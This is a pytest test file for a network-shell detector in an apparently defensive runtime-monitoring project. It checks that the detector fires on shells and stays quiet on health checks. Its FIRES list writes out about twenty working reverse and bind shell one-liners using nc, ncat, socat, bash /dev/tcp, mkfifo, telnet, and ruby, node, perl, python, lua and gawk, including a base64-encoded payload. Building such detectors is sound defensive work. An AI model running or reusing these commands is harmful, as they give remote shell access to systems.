"""Shells for the network by any tool, and the many benign uses of the same tools."""

from __future__ import annotations

import pytest

from periderm.engines.runtime import run_example
from periderm.engines.runtime.detectors.network_shell import DETECTOR
from periderm.engines.runtime.scene import runs, scene

FIRES = [
    ("/usr/bin/nc.traditional", "nc", "-e/bin/sh", "10.0.0.1", "9"),
    ("/usr/bin/nc.traditional", "nc", "-lvnp", "4444", "-e", "/bin/bash"),
    ("/usr/bin/nc.traditional", "nc", "-nve", "/bin/bash", "10.0.0.1", "9"),
    ("/usr/bin/ncat", "ncat", "-c", "bash -i", "10.0.0.1", "9"),
    ("/usr/bin/ncat", "ncat", "--exec", "/bin/dash", "-l", "9"),
    ("/usr/bin/socat", "socat", "tcp-connect:10.0.0.1:9", "exec:/bin/sh,pty"),
    ("/usr/bin/socat", "socat", "TCP4-LISTEN:99,reuseaddr,fork", "SYSTEM:sh"),
    ("/opt/update", "update", "-lp", "99", "-e", "/bin/sh"),
    ("/usr/bin/ruby3.1", "ruby", "-rsocket", "-e", "s=TCPSocket.new('h',9);exec('/bin/sh',in: s,out: s)"),
    ("/usr/bin/node", "node", "-e", "require('net').connect(9,'h',function(){require('child_process').spawn('sh')})"),
    ("/usr/bin/perl", "perl", "-MIO::Socket", "-e", "$c=IO::Socket::INET->new('h:9');STDIN->fdopen($c,r);system$_ while<>"),
    ("/usr/bin/python3.11", "python3", "-c", "import socket,subprocess;s=socket.socket();s.bind(('',9));subprocess.call('sh')"),
    (
        "/usr/bin/python3",
        "python3",
        "-c",
        "exec(__import__('base64').b64decode('aW1wb3J0IHNvY2tldCxzdWJwcm9jZXNzLG9zO3M9c29ja2V0LnNvY2tldCgpO29zLmR1cDIocy5maWxlbm8oKSwwKQ=='))",
    ),
    ("/usr/bin/lua5.4", "lua", "-e", "local s=require('socket').tcp();s:connect('h',9);io.popen('sh')"),
    ("/usr/bin/gawk", "gawk", 'BEGIN{while(1){"/inet/tcp/0/h/9"|&getline l;l|getline}}'),
    ("/usr/bin/bash", "bash", "-c", "exec 5<>/dev/tcp/10.0.0.1/9; while read l 0<&5; do $l 2>&5 >&5; done"),
    ("/usr/bin/bash", "bash", "-c", "0<&196;exec 196<>/dev/tcp/10.0.0.1/9; sh <&196 >&196 2>&196"),
    ("/usr/bin/dash", "sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 9 >/tmp/f"),
    ("/usr/bin/dash", "sh", "-c", "mknod p p; telnet 10.0.0.1 9 0<p | sh 1>p"),
]
QUIET = [
    ("/usr/bin/perl", "perl", "-e", "$s=IO::Socket::INET->new('h:9');print $s 1;$s->flush;print scalar $s->getline"),
    ("/usr/bin/python3", "python3", "-c", "import socket,sys; socket.create_connection(('h',9)); sys.stdout.flush()"),
    ("/usr/bin/nc.openbsd", "nc", "-zv", "db", "5432"),
    ("/bin/busybox", "nc", "-w", "1", "127.0.0.1", "80"),
    ("/usr/bin/nc.openbsd", "nc", "-U", "/run/haproxy.sock"),
    ("/usr/bin/socat", "socat", "-", "UNIX-CONNECT:/run/haproxy/admin.sock"),
    ("/usr/bin/bash", "bash", "-c", "until (echo > /dev/tcp/db/3306) >/dev/null 2>&1; do sleep 1; done"),
    ("/usr/bin/bash", "bash", "-c", "timeout 1 bash -c '</dev/tcp/db/3306' || exit 1"),
    ("/usr/bin/python3", "python3", "-c", "import socket; print(socket.gethostname())"),
    ("/usr/bin/python3", "python3", "-m", "http.server"),
    ("/usr/bin/php8.2", "php", "-r", "exit(@fsockopen('127.0.0.1', 9000) ? 0 : 1);"),
    ("/usr/bin/node", "node", "-e", "require('http').get('http://localhost:80')"),
    ("/usr/bin/openssl", "openssl", "s_client", "-connect", "h:443"),
    ("/usr/bin/sudo", "sudo", "-u", "app", "-c", "/bin/bash", "10"),
    ("/usr/bin/psql", "psql", "-h", "10.0.0.1", "-p", "5432", "-c", "select 1"),
    ("/usr/bin/redis-cli", "redis-cli", "-e", "-p", "6379", "ping"),
    ("/usr/bin/perl", "perl", "-e", "print 1"),
]


@pytest.mark.parametrize("line", FIRES, ids=lambda line: " ".join(line[1:4])[:40])
def test_every_way(line: tuple[str, ...]) -> None:
    """Tools, other names, other languages, encodings, pipes."""
    assert run_example(DETECTOR, scene(runs(2, 1, *line)))


@pytest.mark.parametrize("line", QUIET, ids=lambda line: " ".join(line[1:4])[:40])
def test_benign_uses(line: tuple[str, ...]) -> None:
    """Health checks, waiting, forwarding, options of the same letters."""
    assert run_example(DETECTOR, scene(runs(2, 1, *line))) == []


def test_a_pipeline_in_either_order() -> None:
    """Whichever of shell and relay is started last, the pair is seen."""
    shell = runs(2, 1, "/usr/bin/dash", "sh", pipes=(5, 0))
    relay = runs(3, 1, "/usr/bin/nc.openbsd", "nc", "h", "9", pipes=(0, 5))
    assert run_example(DETECTOR, scene(relay, shell))
    assert run_example(DETECTOR, scene(shell, relay))
    script = runs(2, 1, "/usr/bin/dash", "sh", "report.sh", pipes=(5, 0))
    assert run_example(DETECTOR, scene(relay, script)) == []
